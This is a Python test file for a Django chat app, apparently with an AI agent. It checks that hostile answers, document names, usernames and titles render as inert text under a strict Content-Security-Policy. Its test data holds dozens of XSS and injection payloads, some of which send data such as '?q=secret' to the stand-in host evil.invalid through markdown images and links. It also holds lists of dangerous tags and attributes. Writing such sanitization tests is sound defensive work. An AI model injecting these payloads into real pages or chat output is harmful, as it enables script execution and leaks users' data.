"""Pages with hostile answers, documents and names load nothing and run nothing."""

from __future__ import annotations

import uuid
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from apps.accounts.profiles import change_profile
from apps.agents.errors import InvalidCitationError
from apps.agents.events import TokenProduced, ToolCalled
from apps.agents.tests.hostile_texts import NAMES, TEXTS
from apps.chat.models import AgentChatSession
from apps.chat.sessions import create_session
from apps.chat.streams import html
from apps.chat.tests.conftest import finished_transcript, make_document, sources_of
from apps.chat.turns.endings import fail_turn, finish_turn
from apps.chat.turns.start import start_turn
from apps.chat.turns.transcript import Transcript
from apps.chat.turns.turn import StartedTurn

pytestmark = pytest.mark.django_db

ANSWERS = (
    *TEXTS,
    "<script>alert(1)</script><script src=//evil.invalid/x.js></script>",
    "<img src=http://evil.invalid/?q=1 srcset='http://evil.invalid/2 2x' onerror=alert(1)>",
    "![x](http://evil.invalid/?q=secret) ![x][r]\n\n[r]: http://evil.invalid/p.png",
    "![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](//evil.invalid/p.png) ![x](/admin/logout)",
    "[a](javascript:alert(1)) [b](data:text/html,<script>1</script>) [c](vbscript:x)",
    "<iframe src=http://evil.invalid></iframe><object data=//evil.invalid></object>",
    "<svg onload=alert(1)><use href=http://evil.invalid/#x /></svg><math><mtext></mtext></math>",
    "<style>@import url(//evil.invalid)</style><link rel=stylesheet href=//evil.invalid>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'><base href=//evil.invalid>",
    "<form action=//evil.invalid><button formaction=//evil.invalid>x</button></form>",
    '<div hx-get="//evil.invalid" hx-trigger="load" sse-connect="//evil.invalid">x</div>',
    "<video src=//evil.invalid poster=//evil.invalid></video><audio src=//evil.invalid>",
    '```js" onload="x\n</code></pre><script>alert(1)</script>\n```',
    '</div></article></template><script>alert(1)</script><b style="background:url(//e)">',
    "|a|\n|:-:|\n|<img src=//evil.invalid>|\n\n<https://evil.invalid/?q=secret>",
    '[x](http://evil.invalid "t\\" onmouseover=alert(1)") <http://evil.invalid/"onclick=1>',
    "\ue0001\ue001 \ue002 <button data-copy-code hx-post=/x>",
    "# </title><script>1</script>\n\n&lt;script&gt;alert(1)&lt;/script&gt;",
)
LOADING = {
    "src",
    "srcset",
    "poster",
    "data",
    "action",
    "formaction",
    "background",
    "ping",
}
FORBIDDEN = {
    "iframe", "object", "embed", "img", "video", "audio", "source", "track", "base", "style",
    "math", "frame", "applet", "portal",
}  # fmt: skip


class _Elements(HTMLParser):
    """Collects what a page loads, runs or leads to."""

    def __init__(self) -> None:
        super().__init__()
        self.active: list[tuple[str, str, str]] = []
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN or tag == "script":
            self.active.append((tag, "", dict(attrs).get("src") or ""))
        for name, value in attrs:
            if tag == "a" and name == "href":
                self.links.add(value or "")
            elif name.startswith(("on", "style", "hx-on")) or _leads_away(name, value or ""):
                self.active.append((tag, name, value or ""))


def _leads_away(name: str, value: str) -> bool:
    is_address = name in LOADING or name == "href" or name.startswith(("hx-", "sse-", "xlink"))
    return is_address and ("//" in value or value.strip().lower().startswith(("data", "java")))


def elements(text: str) -> _Elements:
    parser = _Elements()
    parser.feed(text)
    parser.close()
    return parser


def answered(session, document, text, **values):
    turn = start_turn(session, values.pop("question", "年假多少天？"))
    finish_turn(turn, finished_transcript(text, sources_of(document), **values))
    return turn


def page_of(client, address):
    response = client.get(address)
    assert response.status_code == 200
    policy = set(response["Content-Security-Policy"].split("; "))
    assert {"default-src 'none'", "script-src 'self'", "img-src 'self'"} <= policy
    return response.content.decode()


def chat_pages(client, turn):
    """Return what shows a conversation: its page, with a source open, the pane and the end."""
    page = reverse("chat:session", args=[turn.session_id])
    pane = reverse("chat:sources", args=[turn.session_id, turn.message_id])
    return [
        page_of(client, page),
        page_of(client, f"{page}?message={turn.message_id}&source=S1"),
        page_of(client, f"{pane}?source=S1"),
    ]


def active_of(pages):
    return [elements(page).active for page in pages]


@pytest.fixture
def plain(client, user, document):
    """Return the active elements of the pages of a harmless answer."""
    session = AgentChatSession.objects.create(user=user)
    turn = answered(session, document, "年假十五天。[S1]")
    pages = chat_pages(client, turn)
    session.delete()
    return active_of(pages)


@pytest.mark.parametrize("text", ANSWERS)
def test_page_of_a_hostile_answer_loads_and_runs_what_every_page_does(
    client, session, document, plain, text
):
    pages = chat_pages(client, answered(session, document, f"年假十五天。[S1]\n\n{text}"))
    assert active_of(pages) == plain
    away = {link for page in pages for link in elements(page).links if "//" in link}
    assert all(link.startswith(("http://evil.invalid", "https://evil.invalid")) for link in away)


def test_hostile_question_title_name_and_passage_are_text(client, user, plain):
    hostile = "\n".join(ANSWERS)
    change_profile(user, username="<img src=x onerror=1>", bio="<script>1</script>")
    session = create_session(user, title="<img src=//evil.invalid>")
    search = ToolCalled("<img src=x>", "search_knowledge_base", {"query": ANSWERS[-1]})
    for name in NAMES:
        document = make_document(user, name, [hostile, "年假十五天。"])
        turn = answered(session, document, "年假十五天。[S2]", question=hostile, before=[search])
        assert active_of(chat_pages(client, turn)) == plain
    others = [
        reverse("documents:list"),
        reverse("documents:chunks", args=[document.id]),
    ]
    for address in [*others, reverse("documents:detail", args=[document.id])]:
        assert "evil" not in str(elements(page_of(client, address)).active)


@pytest.mark.parametrize("text", ANSWERS)
def test_token_of_a_running_answer_is_text(text):
    turn = StartedTurn(*(uuid.uuid4() for _ in range(5)), question=text)
    found = elements("".join(data for _, data in html.encode(TokenProduced(text), turn)))
    assert (found.active, found.links) == ([], set())


def test_failed_answer_shows_no_label_and_no_markup(client, session, document, plain):
    turn = start_turn(session, "年假多少天？")
    transcript = Transcript()
    transcript.add(TokenProduced("\n".join(ANSWERS)))
    fail_turn(turn, InvalidCitationError(), transcript)
    page = page_of(client, reverse("chat:session", args=[session.id]))
    assert elements(page).active == plain[0]
    assert 'class="cite"' not in page
